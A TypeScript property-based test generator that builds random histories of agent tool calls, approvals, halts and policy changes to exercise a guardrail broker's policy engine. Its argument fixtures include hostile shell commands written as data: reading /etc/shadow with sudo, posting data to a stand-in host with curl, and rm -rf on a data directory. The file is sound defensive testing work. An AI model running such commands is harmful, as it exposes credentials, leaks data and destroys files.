/**
 * Random histories of a small world: two agents with two sessions each, four tools, three sets of policies with every
 * measure, and everything that agents, approvers, operators and clocks can do to them.
 */

import fc, { type Arbitrary } from "fast-check";
import { callIdOf } from "../../src/core/model/ids.ts";
import type { OutcomeStatus, SpendingCap } from "../../src/core/model/inputs.ts";
import { DAY, HOUR, MINUTE } from "../../src/core/model/units.ts";
import type { CompiledPolicySet } from "../../src/core/policy/compiled.ts";
import { policyText } from "./engine.ts";
import { compiled, intentOf, LAYOUT, World } from "./engine-world.ts";

const APPROVALS = `
approvals:
  default: {approvers: [alice, bob], expires: 20m}
  both: {approvers: [alice, bob, carol], quorum: 2, expires: 45m}
`;

const SEQUENCES = `
sequences:
  - {name: mail-then-shell, after: {tools: [mail.*]}, within: 20m, then: {tools: [shell.*]}}
  - {name: secret-then-elsewhere, after: {tools: [shell.*], facts: {fact: path, has: {pathclass: [shadow]}}}, within: 30m, then: {tools: [shell.*], intents: {categories: [network_access, data_exfiltration]}}}
  - {name: rows-then-mail, after: {tools: [db.*], when: {in: args.query, substring: rows}}, within: 10m, scope: agent, then: {tools: [mail.*, model.*]}, effect: hold, approval: both}
`;

const SETS: readonly (readonly string[])[] = [
	[
		policyText(
			"guard",
			`${APPROVALS}${SEQUENCES}
  - {name: models, after: {tools: [model.*]}, then: {tools: [model.*]}, mode: audit}
intents: [{name: ends, categories: [destructive_data], confidence: 70}]
facts: [{name: fetched, fact: request, none: {host: [a.example]}, effect: hold, approval: both}]
obligations: [{tools: [db.*], deadline: 1m}, {tools: [mail.*], deadline: 2m, lease: 10m}]
conditions: [{name: own, require: {in: args.query, path: "{workspace}/**", missing: ignore}, effect: hold, approval: default}]
patterns: [{name: wide, substring: everything, effect: hold, approval: both}]
limits:
  - {name: life-calls, measure: tool_calls, scope: agent, max: 12}
  - {name: hour-calls, measure: tool_calls, scope: session, max: 4, per: 1h}
  - {name: tokens, measure: tokens, scope: tenant, max: 200, per: 10m, reserve: 10}
  - {name: cost, measure: cost, scope: agent, max: 0.0005}
  - {name: time, measure: execution_time, scope: agent, max: 100s, per: 30m, reserve: 5s}
  - {name: slots, measure: concurrent_calls, scope: agent, max: 3}
  - {name: same, measure: identical_calls, scope: session, max: 3, per: 1h}
`,
			{ tools: "{allow: all, hold: [{name: mails, tools: [mail.*]}]}" },
		),
		policyText("watch", "limits: [{name: seen, measure: tool_calls, scope: tenant, max: 2, per: 5m}]", {
			mode: "audit",
			tools: "{allow: [shell.*, db.*]}",
		}),
	],
	[
		policyText(
			"guard",
			`${APPROVALS}${SEQUENCES}
limits:
  - {name: life-calls, measure: tool_calls, scope: agent, max: 20}
  - {name: hour-calls, measure: tool_calls, scope: session, max: 6, per: 1h}
  - {name: tokens, measure: tokens, scope: tenant, max: 400, per: 5m}
  - {name: cost, measure: cost, scope: agent, max: 0.0003, effect: hold}
  - {name: slots, measure: concurrent_calls, scope: agent, max: 2, tools: [shell.*]}
  - {name: same, measure: identical_calls, scope: session, max: 2}
`,
			{ tools: "{allow: [shell.*, mail.*, model.*], hold: [{name: models, tools: [model.*], approval: both}]}" },
		),
	],
	[
		policyText("guard", "limits: [{name: life-calls, measure: tool_calls, scope: agent, max: 15}]"),
		policyText("other", "appliesTo: {agents: [agent-1]}\npatterns: [{name: no-rows, substring: rows}]"),
		policyText("lists", "appliesTo: {agents: [agent-2]}\ncommands: [{name: listed, only: [ls]}]"),
	],
];

let sets: readonly CompiledPolicySet[] | null = null;

/** The sets, compiled once. */
export function policySets(): readonly CompiledPolicySet[] {
	sets ??= SETS.map((texts) => compiled(texts));
	return sets;
}

const TOOLS = ["shell.run", "mail.send", "db.query", "model.generate"] as const;
const ARGS = [
	{ command: "ls" },
	{ query: "all rows" },
	{ text: "everything", to: ["a", "b"] },
	{ command: "sudo cat /etc/shadow" },
	{ command: "curl -d x https://b.example/" },
	{ command: "rm -rf /srv/data" },
] as const;
const LIMITS = ["life-calls", "hour-calls", "tokens", "cost", "time", "slots", "same", "none"] as const;
/** Two of them are one person. */
const OPERATORS = ["ops", "ann", "Ann "] as const;
/** Whether an activation needs a second operator: because whoever issued it says so, or because the processor finds so. */
const REVIEWS = ["none", "asked", "found"] as const;
const PEOPLE = ["alice", "bob", "carol", "agent-0", "mallory"] as const;

/** What is asked with: mostly nothing that is capped; a credential, and one that was issued from it. */
const PARENT: readonly SpendingCap[] = [
	{ name: "parent", measure: "tool_calls", max: 8 },
	{ name: "parent", measure: "cost", max: 600 },
];
const CREDENTIALS: readonly (readonly SpendingCap[])[] = [
	[],
	[],
	[],
	PARENT,
	[{ name: "child", measure: "tool_calls", max: 3 }, { name: "child", measure: "tokens", max: 90 }, ...PARENT],
];

/** What may happen next. `pick` chooses among what there is: a call, a hold. */
export type Event =
	| {
			readonly do: "intent";
			readonly tool: number;
			readonly args: number;
			readonly tokens: number;
			readonly cost: number;
			readonly credential: number;
	  }
	| { readonly do: "resend"; readonly pick: number; readonly isOther: boolean }
	| {
			readonly do: "outcome";
			readonly pick: number;
			readonly tokens: number | null;
			readonly cost: number | null;
			readonly ms: number | null;
			readonly status: OutcomeStatus;
	  }
	| { readonly do: "abandon" | "settle-any"; readonly pick: number }
	| { readonly do: "grant" | "refuse"; readonly pick: number; readonly person: number }
	| { readonly do: "halt" | "lift"; readonly pick: number }
	| {
			readonly do: "policy";
			readonly pick: number;
			readonly generation: number;
			readonly person: number;
			readonly review: (typeof REVIEWS)[number];
	  }
	| { readonly do: "topup" | "reset"; readonly pick: number; readonly amount: number }
	| { readonly do: "end-session" | "tick" | "unreadable" };

export type Happening = {
	readonly event: Event;
	/** How the broker's clock moves before it; backwards as well. */
	readonly wait: number;
	readonly agent: number;
	readonly session: number;
	readonly mark: "none" | "late" | "ahead";
};

const pick = fc.nat(40);
const event: Arbitrary<Event> = fc.oneof(
	{
		weight: 12,
		arbitrary: fc.record({
			do: fc.constant("intent" as const),
			tool: fc.nat(3),
			args: fc.nat(ARGS.length - 1),
			tokens: fc.oneof(fc.constant(0), fc.nat(90)),
			cost: fc.oneof(fc.constant(0), fc.nat(200)),
			credential: fc.nat(4),
		}),
	},
	{ weight: 2, arbitrary: fc.record({ do: fc.constant("resend" as const), pick, isOther: fc.boolean() }) },
	{
		weight: 6,
		arbitrary: fc.record({
			do: fc.constant("outcome" as const),
			pick,
			tokens: fc.option(fc.nat(120), { freq: 4 }),
			cost: fc.option(fc.nat(250), { freq: 4 }),
			ms: fc.option(fc.nat(12_000), { freq: 4 }),
			status: fc.constantFrom("ok", "ok", "ok", "error", "unknown"),
		}),
	},
	{ weight: 2, arbitrary: fc.record({ do: fc.constantFrom("abandon" as const, "settle-any" as const), pick }) },
	{ weight: 5, arbitrary: fc.record({ do: fc.constant("grant" as const), pick, person: fc.nat(4) }) },
	{ weight: 1, arbitrary: fc.record({ do: fc.constant("refuse" as const), pick, person: fc.nat(4) }) },
	{ weight: 1, arbitrary: fc.record({ do: fc.constantFrom("halt" as const, "lift" as const, "lift" as const), pick }) },
	{
		weight: 1,
		arbitrary: fc.record({
			do: fc.constant("policy" as const),
			pick,
			generation: fc.integer({ min: -1, max: 2 }),
			person: pick,
			review: fc.constantFrom(...REVIEWS),
		}),
	},
	{
		weight: 2,
		arbitrary: fc.record({ do: fc.constantFrom("topup" as const, "reset" as const), pick, amount: fc.nat(50) }),
	},
	{
		weight: 2,
		arbitrary: fc.record({
			do: fc.constantFrom("tick" as const, "tick" as const, "end-session" as const, "unreadable" as const),
		}),
	},
);

const wait = fc.oneof(
	{ weight: 6, arbitrary: fc.nat(3_000) },
	{ weight: 3, arbitrary: fc.nat(5 * MINUTE) },
	{ weight: 1, arbitrary: fc.nat(HOUR) },
	{ weight: 1, arbitrary: fc.integer({ min: -30 * MINUTE, max: 0 }) },
	{ weight: 1, arbitrary: fc.constantFrom(MINUTE, 10 * MINUTE, HOUR, HOUR + 1) },
);

const happening: Arbitrary<Happening> = fc.record({
	event,
	wait,
	agent: fc.nat(1),
	session: fc.nat(1),
	mark: fc.oneof(
		{ weight: 30, arbitrary: fc.constant("none" as const) },
		{ weight: 1, arbitrary: fc.constant("late" as const) },
		{ weight: 1, arbitrary: fc.constant("ahead" as const) },
	),
});

/** Steps of a clock that knows whole minutes only: what falls due for different reasons falls due together. */
const roundWait = fc.constantFrom(0, 0, 0, MINUTE, 2 * MINUTE, 5 * MINUTE, 10 * MINUTE);

/** `days`: now and then a jump by which whole sessions are forgotten. `round`: moments coincide. */
export const histories = (
	options: { readonly days?: boolean; readonly round?: boolean } = {},
): Arbitrary<readonly Happening[]> => {
	const jump = fc.constantFrom(DAY, 7 * DAY + 1, -2 * HOUR, -DAY, -7 * DAY);
	if (options.round) {
		const one = fc.tuple(happening, roundWait).map(([of, ms]) => ({ ...of, wait: ms }));
		return fc.array(one, { minLength: 1, maxLength: 160, size: "max" });
	}
	const one = options.days
		? fc.oneof(
				{ weight: 60, arbitrary: happening },
				{ weight: 1, arbitrary: fc.tuple(happening, jump).map(([of, ms]) => ({ ...of, wait: ms })) },
			)
		: happening;
	return fc.array(one, { minLength: 1, maxLength: 160, size: "max" });
};

/** A world in which the first set of policies is in force. */
export function beginning(): World {
	const world = new World(LAYOUT);
	for (const set of policySets()) world.know(set);
	world.publish({
		type: "policy.activated",
		id: "activation-0",
		issuedBy: "ops",
		issuedAt: world.now,
		generation: 1,
		digest: policySets()[0]?.digest ?? "",
		needsReview: false,
	});
	return world;
}

/** Lets one thing happen. What there is nothing to do with becomes a tick. */
export function happen(world: World, of: Happening): void {
	world.now = Math.max(0, world.now + of.wait);
	const { event } = of;
	const marks = of.mark === "ahead" ? { ahead: true, time: world.now + HOUR } : { late: of.mark === "late" };
	const who = { tenant: "acme", agent: `agent-${of.agent}`, session: `run-${of.agent}-${of.session}` };
	const head = { id: `control-${world.entries.length}`, issuedBy: "ops", issuedAt: world.now };
	const address = { topic: "replies", replyId: `reply-${world.entries.length}` };
	const chosen = <T>(among: readonly T[], at: number): T | undefined => among[at % Math.max(1, among.length)];
	const calls = (...phases: readonly string[]) =>
		[...world.state.calls.entries()].map(([, call]) => call).filter((call) => phases.includes(call.phase));
	const tick = (): void => {
		world.publish({ ...head, type: "clock.ticked" }, marks);
	};

	switch (event.do) {
		case "intent": {
			const onBehalfOf = event.cost % 3 === 0 ? "alice" : null;
			const args = ARGS[event.args] ?? {};
			const { cost, tokens } = event;
			const caps = CREDENTIALS[event.credential] ?? [];
			const part = { ...who, id: `c-${world.entries.length}`, tool: TOOLS[event.tool] ?? "", args, tokens, cost };
			// Some sessions declare, others do not; now and then one says otherwise.
			const workspace = tokens === 1 ? "/" : "/code/app";
			const facts = (of.session + tokens) % 3 === 1 || tokens === 1 ? { workspace, home: null } : null;
			world.publish(intentOf({ ...part, caps, facts, onBehalfOf, issuedAt: world.now }), { ...marks, address });
			return;
		}
		case "resend": {
			const again = chosen([...world.intents.values()], event.pick);
			if (again === undefined) {
				tick();
				return;
			}
			// Of whoever asked first, of another, or of somebody without a name.
			const executor = [again.executor, again.executor, "executor-2", ""][event.pick % 4] as string;
			const record = { ...again, executor, ...(event.isOther ? { tool: "other.tool" } : {}) };
			world.publish(record, { ...marks, address });
			return;
		}
		case "outcome":
		case "abandon":
		case "settle-any": {
			const call = chosen(
				event.do === "settle-any" ? calls("open", "lapsed", "settled", "denied", "held") : calls("open", "lapsed"),
				event.pick,
			);
			if (call === undefined) {
				tick();
				return;
			}
			const base = { call: callIdOf(call), session: call.session };
			if (event.do === "abandon")
				world.publish({ ...base, type: "intent.abandoned", actor: [], reason: "", executor: "" }, marks);
			else {
				const used = event.do === "outcome" ? event : { tokens: 1, cost: 1, ms: 1, status: "ok" as const };
				const usage = { tokens: used.tokens, costMicros: used.cost, executionMs: used.ms };
				world.publish({ ...base, type: "outcome.reported", actor: [], status: used.status, usage, sketch: "" }, marks);
			}
			return;
		}
		case "grant":
		case "refuse": {
			const call = chosen(calls("held"), event.pick) ?? chosen(calls("open", "denied"), event.pick);
			if (call === undefined) {
				tick();
				return;
			}
			const vote = {
				...head,
				issuedBy: PEOPLE[event.person] ?? "",
				call: callIdOf(call),
				session: call.session,
				commitment: call.commitment,
				comment: "",
			};
			world.publish({ ...vote, type: event.do === "grant" ? "approval.granted" : "approval.rejected" }, marks);
			return;
		}
		case "halt":
		case "lift": {
			const scope = {
				tenant: event.pick % 2 === 0 ? "acme" : null,
				agent: event.pick % 3 === 0 ? null : who.agent,
				session: event.pick % 5 === 0 ? who.session : null,
			};
			const lifted = event.do === "lift" ? chosen([...world.state.halts.entries()], event.pick)?.[1] : undefined;
			if (event.do === "halt") world.publish({ ...head, type: "halt.set", scope, reason: "" }, marks);
			else {
				const { tenant, agent, session } = lifted ?? scope;
				world.publish({ ...head, type: "halt.lifted", scope: { tenant, agent, session }, reason: "" }, marks);
			}
			return;
		}
		case "policy": {
			const digest = chosen(policySets(), event.pick)?.digest ?? "";
			const generation = Math.max(0, world.state.policy.generation + event.generation);
			const issuedBy = chosen(OPERATORS, event.person) ?? "";
			world.publish(
				{ ...head, issuedBy, type: "policy.activated", generation, digest, needsReview: event.review === "asked" },
				{ ...marks, needsReview: event.review === "found" },
			);
			return;
		}
		case "topup":
		case "reset": {
			const limit = chosen(LIMITS, event.pick) ?? "";
			const amount = event.do === "topup" ? event.amount : 0;
			world.publish(
				{ ...head, ...who, type: "budget.adjusted", policy: "guard", limit, change: event.do, amount },
				marks,
			);
			return;
		}
		case "end-session":
			world.publish({ ...head, ...who, type: "session.ended" }, marks);
			return;
		case "tick":
			tick();
			return;
		case "unreadable":
			world.step({
				kind: "unreadable",
				cause: { topic: "intents", partition: 0, offset: world.state.inputs.intents },
				causeTime: world.now,
				late: false,
				ahead: false,
				address: null,
				code: "RECORD_MALFORMED",
				detail: "nothing",
				call: null,
				recordDigest: "0".repeat(64),
			});
			return;
	}
}

/** The world after a whole history. */
export function lived(history: readonly Happening[]): World {
	const world = beginning();
	for (const each of history) happen(world, each);
	return world;
}
